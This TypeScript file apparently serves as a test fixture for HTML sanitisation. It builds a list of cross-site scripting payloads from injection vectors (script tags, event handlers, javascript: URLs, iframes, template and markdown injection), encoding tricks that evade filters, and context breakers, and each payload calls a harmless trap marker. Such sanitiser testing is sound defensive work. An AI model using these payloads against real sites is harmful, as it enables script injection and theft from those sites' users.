/** Markup that would call `trap` if a page took it for its own: kinds of execution, each in every disguise, behind ways out of where a text stands. */

/** Each takes the call, as a statement without quotes. */
const vectors: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><animate attributeName=x onbegin=${call}>`,
  (call) => `<body onload=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<b style="width:expression(${call});background:url(javascript:${call})">`,
  (call) => `<style>@import 'javascript:${call}';</style>`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<iframe srcdoc="<img src=x onerror=parent.${call}>"></iframe>`,
  (call) => `<iframe src="data:text/html,<script>parent.${call}</script>"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `" autofocus onfocus="${call}" x="`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}<%= ${call} %>#{${call}}`,
  (call) => `[x](javascript:${call}) ![x](x"onerror="${call})`,
]

/** The same in other letters. */
const disguises: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => markup.replace(/<(\w)|javascript|on(?=\w+=)/g, (word) => word.toUpperCase()),
  (markup) => markup.replaceAll(' ', '/'),
  (markup) => markup.replace(/>(?=[^>]*$)/, ''),
  (markup) => markup.replaceAll('<', '&lt;').replaceAll('"', '&#34;'),
  (markup) => markup.replaceAll('javascript:', 'java&#9;script&colon;').replaceAll('=', '&#x3D;'),
  (markup) => markup.replaceAll('<', '\\u003c').replaceAll('(', '\\x28'),
  (markup) => markup.replaceAll('<', '<<').replaceAll('javascript', 'java\tscript'),
  (markup) => markup.replaceAll(/<(?=\w)/g, '<\0').replaceAll('javascript', 'java\0script'),
]

/** Out of an attribute, an element of text, a comment, a string of a script. */
const breakers = ['"> ', "'> ", '</textarea></title></style></script>', '--> ', ']]> ', '\\");}]//', '`'] as const

/** Each calls `trap` with its own place in the list; one behind nothing and one behind a breaker of every kind in every disguise. */
export const payloads: readonly string[] = disguises
  .flatMap((disguise, at) =>
    vectors.flatMap((vector, kind) => ['', breakers[(kind + at) % breakers.length]].map((breaker) => (call: string) => `${breaker}${disguise(vector(call))}`)),
  )
  .map((markup, n) => markup(`trap(${n})`))

/** Where one row holds two texts, the second is this one of the other half. */
export const half = payloads.length / 2
export const other = (place: number) => payloads[half + place] ?? ''
